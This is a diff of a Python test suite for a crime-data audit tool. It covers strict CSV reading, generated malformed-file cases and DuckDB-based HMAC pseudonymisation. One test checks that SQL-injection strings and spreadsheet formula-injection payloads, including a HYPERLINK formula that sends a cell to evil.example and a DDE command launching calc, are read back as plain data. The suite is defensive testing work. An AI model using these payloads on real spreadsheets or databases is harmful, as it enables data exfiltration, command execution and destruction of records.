@@ -33,8 +33,6 @@ import pandas as pd
 import pytest
 import yaml
 from csp_audit.config import AREA_TYPES, Region, RegionConfigError, load_region, safe_yaml
-from csp_audit.quality.strict_csv import MAX_FIELD, FileRejected
-from csp_audit_demo.region import generate_demo_region
 from csp_audit.geography import (
     GeographyError,
     Lookup,
@@ -43,6 +41,11 @@ from csp_audit.geography import (
     read_partnership_lookup,
     read_population,
 )
+from csp_audit.plan.model import Cycle, DataPlan, Dataset, Geography, PlanError, Sharing, load_plan
+from csp_audit.plan.periods import Month
+from csp_audit.plan.validate import rule_problems, schema_problems
+from csp_audit.quality.strict_csv import MAX_RECORD, FileRejected
+from csp_audit.sources.archive import ArchiveError, _extract, _unsafe_member, archive_url
 from csp_audit.sources.landing import (
     LandingConfigError,
     LandingError,
@@ -53,13 +56,11 @@ from csp_audit.sources.landing import (
     printable,
     unsafe_name,
 )
+from csp_audit.sources.police_uk import HEADER, discover, read_file
+from csp_audit.warehouse.pseudonymise import key_pads, pseudonym
+from csp_audit.warehouse.pseudonymise import sql as pseudonymise_sql
 from csp_audit_demo.plan import write_demo_plan
-from csp_audit.plan.model import Cycle, DataPlan, Dataset, Geography, PlanError, Sharing, load_plan
-from csp_audit.plan.periods import Month
-from csp_audit.plan.validate import rule_problems, schema_problems
-from csp_audit.sources.archive import ArchiveError, _extract, _unsafe_member, archive_url
-from csp_audit.sources.police_uk import HEADER, discover, read_delivery
-from csp_audit.warehouse.pseudonymise import pseudonymise
+from csp_audit_demo.region import generate_demo_region
 from hypothesis import HealthCheck, example, given, settings
 from hypothesis import strategies as st
 
@@ -110,49 +111,49 @@ def test_corpus_verdicts(case: dict[str, str]) -> None:
     path = CORPUS / "police" / case["file"]
     if case["outcome"] == "rejected":
         with pytest.raises(FileRejected) as caught:
-            read_delivery(path, case["file"])
+            read_file(path, case["file"])
         assert (caught.value.rule, caught.value.line) == (case["rule"], int(case["line"])), caught.value
         assert caught.value.source_file == case["file"]
         assert "\n" not in str(caught.value)  # the CLI reports it on one line
     else:
-        frame = read_delivery(path, case["file"])
-        assert list(frame.columns) == ["row_number", *HEADER]
-        assert len(frame) == int(case["rows_read"])
-        assert frame["row_number"].tolist() == list(range(1, len(frame) + 1))
+        rows = read_file(path, case["file"])
+        assert all(list(row) == ["row_number", *HEADER] for row in rows)
+        assert len(rows) == int(case["rows_read"])
+        assert [row["row_number"] for row in rows] == list(range(1, len(rows) + 1))
 
 
 def test_corpus_awkward_text_is_read_verbatim() -> None:
     """Quoted newlines, doubled quotes, SQL and formulas come back exactly as written: they are data."""
-    frame = read_delivery(CORPUS / "police" / "embedded_newlines_quotes.csv", "x")
-    assert frame["Location"].tolist()[0] == 'On or near "The Crown"\r\nHigh Street'
-    assert frame["Context"].tolist()[1] == "first line\nsecond line, with a comma"
-    assert frame["Location"].tolist()[2] == 'Quote at the end "'
-    sql = read_delivery(CORPUS / "police" / "sql_text.csv", "x")
-    assert sql["Crime type"].tolist() == [
+    rows = read_file(CORPUS / "police" / "embedded_newlines_quotes.csv", "x")
+    assert rows[0]["Location"] == 'On or near "The Crown"\r\nHigh Street'
+    assert rows[1]["Context"] == "first line\nsecond line, with a comma"
+    assert rows[2]["Location"] == 'Quote at the end "'
+    sql = read_file(CORPUS / "police" / "sql_text.csv", "x")
+    assert [r["Crime type"] for r in sql] == [
         "'); drop table raw.deliveries; --",
         "Robert'); DROP TABLE raw.police_street_rows;--",
         'x" or 1=1 --',
     ]
-    assert sql["LSOA name"].tolist()[2] == "LSOA'; delete from audit.reconciliation; --"
-    formulas = read_delivery(CORPUS / "police" / "formula_text.csv", "x")
-    assert formulas["Crime type"].tolist() == [
+    assert sql[2]["LSOA name"] == "LSOA'; delete from audit.reconciliation; --"
+    formulas = read_file(CORPUS / "police" / "formula_text.csv", "x")
+    assert [r["Crime type"] for r in formulas] == [
         '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
         "+cmd|' /C calc'!A0",
         "@SUM(1)",
         "-1+1",
     ]
-    assert formulas["Crime ID"].tolist()[2] == "=1+1"
-    bom = read_delivery(CORPUS / "police" / "bom.csv", "x")
-    assert bom["Crime ID"].str.len().eq(64).all()  # the BOM is not glued to the first value
+    assert formulas[2]["Crime ID"] == "=1+1"
+    bom = read_file(CORPUS / "police" / "bom.csv", "x")
+    assert all(len(r["Crime ID"]) == 64 for r in bom)  # the BOM is not glued to the first value
 
 
 # Generated cases: too big for the corpus, or simplest to state as bytes. (bytes, rule, line) or rows.
 GENERATED: list[tuple[str, bytes, tuple[str, int] | int]] = [
-    ("huge field > 128 KiB", f"{HEADER_LINE}\n{_row(1)}\n{_row(2)}{'x' * (MAX_FIELD + 1)}\n".encode(),
+    ("record over the limit", f"{HEADER_LINE}\n{_row(1)}\n{_row(2)}{'x' * MAX_RECORD}\n".encode(),
      ("csv_syntax", 3)),
-    ("field of exactly 128 KiB", f"{HEADER_LINE}\n{_row(1)}{'x' * MAX_FIELD}\n".encode(), 1),
-    ("huge quoted field spanning lines", f'{HEADER_LINE}\n{_row(1)}"{"y" * 70_000}\n{"y" * 70_000}"\n'.encode(),
-     ("csv_syntax", 3)),
+    ("field of 128 KiB", f"{HEADER_LINE}\n{_row(1)}{'x' * 131_072}\n".encode(), 1),
+    ("quoted field over the limit spanning lines",
+     f'{HEADER_LINE}\n{_row(1)}"{"y" * (MAX_RECORD // 2)}\n{"y" * (MAX_RECORD // 2)}"\n'.encode(), ("csv_syntax", 2)),
     ("whitespace only", b" \r\n\r\n\t\n", ("header_present", 1)),
     ("BOM only", b"\xef\xbb\xbf", ("header_present", 1)),
     ("latin-1 in the header", HEADER_LINE.replace("Crime type", "Crime t\xffpe").encode("latin-1"),
@@ -166,12 +167,15 @@ GENERATED: list[tuple[str, bytes, tuple[str, int] | int]] = [
     ("header padded with spaces", f"{HEADER_LINE.replace(',', ' , ')}\n{_row(1)}\n".encode(), 1),
     ("CR-only line endings", f"{HEADER_LINE}\r{_row(1)}\r{_row(2)}\r".encode(), 2),
     ("no final newline", f"{HEADER_LINE}\n{_row(1)}".encode(), 1),
-    ("blank lines between rows", f"{HEADER_LINE}\n\n{_row(1)}\n\r\n{_row(2)}\n\n".encode(), 2),
+    ("blank lines between rows", f"{HEADER_LINE}\n\n{_row(1)}\n\n{_row(2)}\n\n".encode(), 2),
+    ("CRLF blank lines between rows", f"{HEADER_LINE}\r\n\r\n{_row(1)}\r\n\r\n{_row(2)}\r\n".encode(), 2),
+    ("a CRLF blank line in an LF file", f"{HEADER_LINE}\n\n{_row(1)}\n\r\n{_row(2)}\n".encode(),
+     ("csv_syntax", 4)),
     ("NUL in the header", f"{HEADER_LINE}\x00\n{_row(1)}\n".encode(), ("csv_syntax", 1)),
     ("NUL after a quoted newline", f'{HEADER_LINE}\n{_row(1)[:-1]}"a\nb"\n{_row(2)}\x00\n'.encode(),
      ("csv_syntax", 4)),
     ("stray quote closing early", f'{HEADER_LINE}\n"a"b{_row(1)[1:]}\n'.encode(), ("csv_syntax", 2)),
-    ("bare CR in an unquoted field ends the record", f"{HEADER_LINE}\n{_row(1)}a\rb\n".encode(), ("field_count", 3)),
+    ("bare CR in an unquoted field of an LF file", f"{HEADER_LINE}\n{_row(1)}a\rb\n".encode(), ("csv_syntax", 2)),
     ("row of one empty quoted field", f'{HEADER_LINE}\n""\n'.encode(), ("field_count", 2)),
 ]  # fmt: skip
 
@@ -181,10 +185,10 @@ def test_generated_cases(work: Path, bytes_: bytes, expected: tuple[str, int] | 
     path = work / "generated.csv"
     path.write_bytes(bytes_)
     if isinstance(expected, int):
-        assert len(read_delivery(path, "generated.csv")) == expected
+        assert len(read_file(path, "generated.csv")) == expected
     else:
         with pytest.raises(FileRejected) as caught:
-            read_delivery(path, "generated.csv")
+            read_file(path, "generated.csv")
         assert (caught.value.rule, caught.value.line) == expected, caught.value
 
 
@@ -316,19 +320,19 @@ TOKENS = [
 
 
 def _check_police(path: Path) -> None:
-    """A parsed frame of the contract's shape, or a FileRejected naming a known rule and a real line."""
+    """Rows of the contract's shape, or a FileRejected naming a known rule and a real line."""
     data = path.read_bytes()
     try:
-        frame = read_delivery(path, "fuzz.csv")
+        rows = read_file(path, "fuzz.csv")
     except FileRejected as exc:
         assert exc.rule in CSV_RULES, exc
         assert 1 <= exc.line <= data.count(b"\n") + data.count(b"\r") + 1, exc
         assert exc.source_file == "fuzz.csv"
         return
-    assert list(frame.columns) == ["row_number", *HEADER]
-    assert frame["row_number"].tolist() == list(range(1, len(frame) + 1))
+    assert all(list(row) == ["row_number", *HEADER] for row in rows)
+    assert [row["row_number"] for row in rows] == list(range(1, len(rows) + 1))
     for column in HEADER:
-        assert all(isinstance(v, str) for v in frame[column].tolist())
+        assert all(isinstance(row[column], str | None) for row in rows)
 
 
 @FUZZ
@@ -365,16 +369,17 @@ FIELD = st.one_of(
 def test_police_csv_round_trip(
     work: Path, rows: list[list[str]], bom: bool, dialect: tuple[str, int]
 ) -> None:
-    """A well-formed file written by the csv module parses back to exactly the same values and row count."""
+    """A well-formed file written by the csv module reads back to exactly the same values and row count
+    (an empty field, quoted or not, is a missing value)."""
     buffer = io.StringIO(newline="")
     writer = csv.writer(buffer, lineterminator=dialect[0], quoting=dialect[1])
     writer.writerow(HEADER)
     writer.writerows(rows)
     path = work / "roundtrip.csv"
     path.write_bytes((b"\xef\xbb\xbf" if bom else b"") + buffer.getvalue().encode("utf-8"))
-    frame = read_delivery(path, "roundtrip.csv")
-    assert len(frame) == len(rows)
-    assert frame[list(HEADER)].to_numpy().tolist() == rows
+    read = read_file(path, "roundtrip.csv")
+    assert len(read) == len(rows)
+    assert [[row[c] for c in HEADER] for row in read] == [[v if v != "" else None for v in r] for r in rows]
 
 
 # ====================================================================================== ONS lookups
@@ -842,25 +847,43 @@ KEYS = st.text(
 ).map(str.encode)
 
 
+def _pseudonymise_in_duckdb(values: list[str | None], key: bytes) -> list[str | None]:
+    """The load's SQL (csp_audit.warehouse.pseudonymise.sql), run by DuckDB on the values."""
+    import duckdb
+
+    inner, outer = key_pads(key)
+    con = duckdb.connect()
+    con.execute("create table v (i integer, x varchar)")
+    if values:
+        con.executemany("insert into v values (?, ?)", [[i, x] for i, x in enumerate(values)])
+    sql = pseudonymise_sql("v.x", "k.inner_pad", "k.outer_pad")
+    rows = con.execute(
+        f"select {sql} from v cross join (select ?::blob as inner_pad, ?::blob as outer_pad) as k order by v.i",  # noqa: S608
+        [inner, outer],
+    ).fetchall()
+    return [r[0] for r in rows]
+
+
 @FUZZ
 @given(values=st.lists(st.text(max_size=20), max_size=10), key=KEYS, other=KEYS)
 def test_pseudonymise_properties(values: list[str], key: bytes, other: bytes) -> None:
-    series = pd.Series(values, dtype="string")
-    once, again = pseudonymise(series, key), pseudonymise(series, key)
-    assert once.tolist() == again.tolist()  # deterministic for a key
-    for value, pseudonym in zip(values, once.tolist(), strict=True):
+    once, again = _pseudonymise_in_duckdb(values, key), _pseudonymise_in_duckdb(values, key)
+    assert once == again  # deterministic for a key
+    for value, made in zip(values, once, strict=True):
         if value == "":
-            assert pseudonym == ""
+            assert made == ""
             continue
-        assert pseudonym != value  # never the input
-        assert pseudonym.startswith("p_") and len(pseudonym) == 34
+        assert made == pseudonym(value, key)  # HMAC-SHA256 exactly (RFC 2104), as Python's hmac computes it
+        assert made != value and made.startswith("p_") and len(made) == 34
     if other != key:
-        elsewhere = pseudonymise(series, other).tolist()
-        assert all(a != b for a, b, v in zip(once.tolist(), elsewhere, values, strict=True) if v)
+        elsewhere = _pseudonymise_in_duckdb(values, other)
+        assert all(a != b for a, b, v in zip(once, elsewhere, values, strict=True) if v)
     distinct = {v for v in values if v}
-    assert len({p for p in once.tolist() if p}) == len(distinct)  # no collisions among different values
+    assert len({p for p in once if p}) == len(distinct)  # no collisions among different values
 
 
-def test_pseudonymise_keeps_missing_values_missing() -> None:
-    out = pseudonymise(pd.Series(["p_looks_like_one", None, ""], dtype="string"), b"k" * 16)
-    assert out[0] != "p_looks_like_one" and pd.isna(out[1]) and out[2] == ""
+def test_pseudonymise_keeps_missing_values_missing_and_takes_long_keys() -> None:
+    out = _pseudonymise_in_duckdb(["p_looks_like_one", None, ""], b"k" * 16)
+    assert out[0] != "p_looks_like_one" and out[1] is None and out[2] == ""
+    long_key = b"a long secret, longer than the 64-byte block of SHA-256, " * 3
+    assert _pseudonymise_in_duckdb(["x"], long_key) == [pseudonym("x", long_key)]
